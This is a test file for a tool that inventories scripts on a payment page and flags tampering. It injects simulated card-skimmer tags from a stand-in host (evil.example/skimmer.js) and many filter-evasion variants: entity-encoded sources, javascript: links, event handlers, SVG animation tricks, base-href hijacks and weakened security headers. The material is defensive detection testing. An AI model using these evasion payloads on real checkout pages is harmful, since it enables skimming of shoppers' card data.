import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { once } from 'node:events'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Environment } from '../../server/config.ts'
import { findScripts } from '../../server/scripts/page-scripts.ts'
import { createPaymentPage, PAGE, SHOP, WIDGET } from '../support/payment-page.ts'
import { createTerminal } from '../support/terminal.ts'

const EVIL = 'https://evil.example/skimmer.js'
const before = (html: string, addition: string) => html.replace('</body>', `${addition}</body>`)

describe('a script that somebody adds to the payment page', () => {
  test.each([
    ['from elsewhere', `<script src="${EVIL}"></script>`, EVIL],
    ['as a module', `<script type="module" src="${EVIL}"></script>`, EVIL],
    ['in capital letters, without quotes', `<SCRIPT SRC=${EVIL}></SCRIPT>`, EVIL],
    ['with a slash in place of a space', `<script/src="${EVIL}"></script>`, EVIL],
    ['behind broken markup', `<div <!-- "><a href='</script>'><script src="${EVIL}"></script>`, EVIL],
    ['after a comment that only looks open', `<!--><script src="${EVIL}"></script>-->`, EVIL],
    [
      'with a source that is written with entities',
      '<script src="&#104;ttps://evil.example/skimmer.js">',
      EVIL,
    ],
    ['with line breaks in its source', '<script src="https://evil.exa\nmple/skimmer.js"></script>', EVIL],
    ['without a protocol', '<script src="//evil.example/skimmer.js"></script>', EVIL],
    ['in SVG', `<svg><script xlink:href="${EVIL}"></script></svg>`, EVIL],
    [
      'in a template with a shadow root',
      `<p><template shadowrootmode="open"><script src="${EVIL}"></script></template>`,
      EVIL,
    ],
    ['in a frame of its own', `<iframe srcdoc="<script src='${EVIL}'></script>"></iframe>`, EVIL],
    [
      'in SVG, with an attribute that only HTML has',
      `<svg><script src="${WIDGET}">steal()</script></svg>`,
      'inline',
    ],
    [
      'as an animated link',
      '<svg><a><set attributeName="href" to="java\tscript:steal()"/></a></svg>',
      '<set to>',
    ],
    [
      'as one of the values of an animation',
      '<svg><a><animate attributeName="href" values="#;javascript:steal()"/></a></svg>',
      '<animate values>',
    ],
    ['in frames within frames', nested(10, `<script src='${EVIL}'></script>`), '<iframe srcdoc>'],
    ['of an old type', `<script type="application/x-ecmascript" src="${EVIL}"></script>`, EVIL],
    ['in the page', '<script>steal()</script>', 'inline'],
    ['that never ends', '<script>steal()', 'inline'],
    [
      'as an import map',
      '<script type="importmap">{"imports":{"shop":"https://evil.example/"}}</script>',
      'inline importmap',
    ],
    ['as an event handler', '<img src="x" onerror="steal()">', '<img onerror>'],
    ['as an event handler in capitals', '<body ONLOAD=steal()>', '<body onload>'],
    ['as a link', '<a href=" java\tscript:steal()">Help</a>', '<a href>'],
    [
      'as the action of a form',
      '<form><button formaction="javascript:steal()"></form>',
      '<button formaction>',
    ],
    ['as data', '<script src="data:text/javascript,steal()"></script>', 'data:text/javascript,steal()'],
  ])('is found: %s', async (_, addition, subject) => {
    const { site, authorize, inspect } = createPaymentPage()
    const inventory = await authorize()
    site.scripts.set(EVIL, 'steal()')
    site.html = before(String(site.html), addition)
    const { findings } = await inspect('--inventory', inventory)
    expect(findings.map(({ kind, subject: found }) => [kind, found])).toEqual([['added', subject]])
  })

  test('is found in a page that declares another encoding', async () => {
    const { site, authorize, inspect } = createPaymentPage()
    const inventory = await authorize()
    site.scripts.set(EVIL, 'steal()')
    const page = before(String(site.html), `<script src="${EVIL}"></script>`)
    site.html = Buffer.from(`\ufeff${page}`, 'utf16le')
    expect((await inspect('--inventory', inventory)).findings).toMatchObject([
      { kind: 'added', subject: EVIL },
    ])
  })

  test('is found deep in a page', async () => {
    const { site, authorize, inspect } = createPaymentPage()
    const inventory = await authorize()
    site.html = before(String(site.html), `${'<div>'.repeat(100_000)}<script>steal()</script>`)
    expect((await inspect('--inventory', inventory)).findings).toMatchObject([{ kind: 'added' }])
  })
})

test.each<[string, (page: ReturnType<typeof createPaymentPage>) => void, string, string]>([
  [
    'a script that the page loads',
    ({ site }) => site.scripts.set(SHOP, `${String(site.scripts.get(SHOP))};steal()`),
    'changed',
    SHOP,
  ],
  [
    'a script by one byte that is no text',
    ({ site }) =>
      site.scripts.set(
        SHOP,
        Buffer.concat([Buffer.from(String(site.scripts.get(SHOP))), Buffer.from([0xff])]),
      ),
    'changed',
    SHOP,
  ],
  [
    'a byte order mark before a script',
    ({ site }) => site.scripts.set(SHOP, `\ufeff${String(site.scripts.get(SHOP))}`),
    'changed',
    SHOP,
  ],
  [
    'where relative addresses lead',
    ({ site }) => {
      site.html = String(site.html).replace('<head>', '<head><base href="https://evil.example/">')
      site.scripts.set('https://evil.example/shop.js', 'steal()')
    },
    'added',
    'https://evil.example/shop.js',
  ],
  [
    'the integrity value of a script',
    ({ site }) => {
      site.html = String(site.html).replace('src="/shop.js"', 'src="/shop.js" integrity="sha1-x"')
    },
    'changed',
    SHOP,
  ],
  [
    'a policy',
    ({ site }) => {
      site.headers['content-security-policy'] += ' https://evil.example'
    },
    'header',
    'content-security-policy',
  ],
  [
    'a header, which is no longer sent',
    ({ site }) => {
      delete site.headers['strict-transport-security']
    },
    'header',
    'strict-transport-security',
  ],
  [
    'a policy in the page',
    ({ site }) => {
      site.html = String(site.html).replace(
        '<head>',
        '<head><meta http-equiv="Content-Security-Policy" content="script-src *">',
      )
    },
    'header',
    'content-security-policy in <meta>',
  ],
])('somebody who changes %s is found', async (_, change, kind, subject) => {
  const page = createPaymentPage()
  const inventory = await page.authorize()
  change(page)
  const { code, out } = await page.run(PAGE, '--json', '--inventory', inventory)
  expect(code).toBe(1)
  expect(JSON.parse(out).findings).toContainEqual(expect.objectContaining({ kind, subject }))
})

test('a script that is taken away, or cannot be read, is found', async () => {
  const { site, authorize, inspect } = createPaymentPage()
  const inventory = await authorize()
  site.html = String(site.html).replace('<script src="/shop.js" defer></script>', '')
  site.scripts.delete(WIDGET)
  expect(
    (await inspect('--inventory', inventory)).findings.map(({ kind, subject }) => [kind, subject]),
  ).toEqual([
    ['unreadable', WIDGET],
    ['removed', SHOP],
  ])
})

test('a script that its own integrity value excludes is found, with the first inventory, too', async () => {
  const { site, run } = createPaymentPage()
  site.html = `<script src="/shop.js" integrity="sha384-${'A'.repeat(64)}"></script>`
  const { code, out } = await run(PAGE)
  expect([code, out]).toEqual([1, expect.stringContaining(`✗ integrity: ${SHOP}: `)])
})

test('what a page says moves no cursor and forges no line', async () => {
  const { site, run } = createPaymentPage()
  site.html = '<script src="data:\u001b[2J\u009b1A\u202e,\n✗ x"></script><a onclick\u009b="x">'
  site.headers['referrer-policy'] = 'x\u009b1A'
  for (const args of [[PAGE], [PAGE, '--json']])
    expect((await run(...args)).out).not.toMatch(/[^\P{Cc}\n]|\p{Cf}/u)
})

describe('a page with the address of a machine in the network of the person who checks it', () => {
  const requests: string[] = []
  const internal = createServer(({ url = '' }, response) => {
    requests.push(url)
    response.end('secret')
  })
  beforeAll(async () => {
    internal.listen(0, '127.0.0.1')
    await once(internal, 'listening')
  })
  afterAll(() => internal.close())

  test.each<[string, Environment, string[]]>([
    ['sends no request there', {}, []],
    ['sends one if PRIVATE_HOSTS names the host', { PRIVATE_HOSTS: 'orders.lan, 127.0.0.1' }, ['/admin']],
  ])('%s', async (_, env, expected) => {
    const { port } = internal.address() as AddressInfo
    const { run, file } = createTerminal()
    const page = file(`<script src="http://127.0.0.1:${port}/admin"></script>`, 'html')
    const { code, out } = await run(['pci', page, '--url', PAGE, '--json'], { env, fetch: null })
    expect([code, requests.splice(0)]).toEqual([expected.length > 0 ? 0 : 1, expected])
    expect(out.includes('private address')).toBe(expected.length === 0)
  })
})

test('a base address counts as in browsers: not in a template, and not in SVG', () => {
  const evil = '<base href="https://evil.example/"><script src="app.js"></script>'
  for (const hidden of ['<template><base href="/a/"></template>', '<svg><base href="/a/"></base></svg>']) {
    const { scripts } = findScripts(`<body>${hidden}${evil}`, 'https://shop.example/checkout')
    expect(scripts.map(({ address }) => address)).toEqual(['https://evil.example/app.js'])
  }
})

test('a page of 300,000 elements is read', () => {
  const html = `${'<br>'.repeat(300_000)}<script src="${EVIL}"></script>`
  expect(findScripts(html, 'https://shop.example/').scripts).toHaveLength(1)
})

function nested(depth: number, html: string): string {
  if (depth === 0) return html
  const document = nested(depth - 1, html)
    .replaceAll('&', '&amp;')
    .replaceAll('"', '&quot;')
  return `<iframe srcdoc="${document}"></iframe>`
}
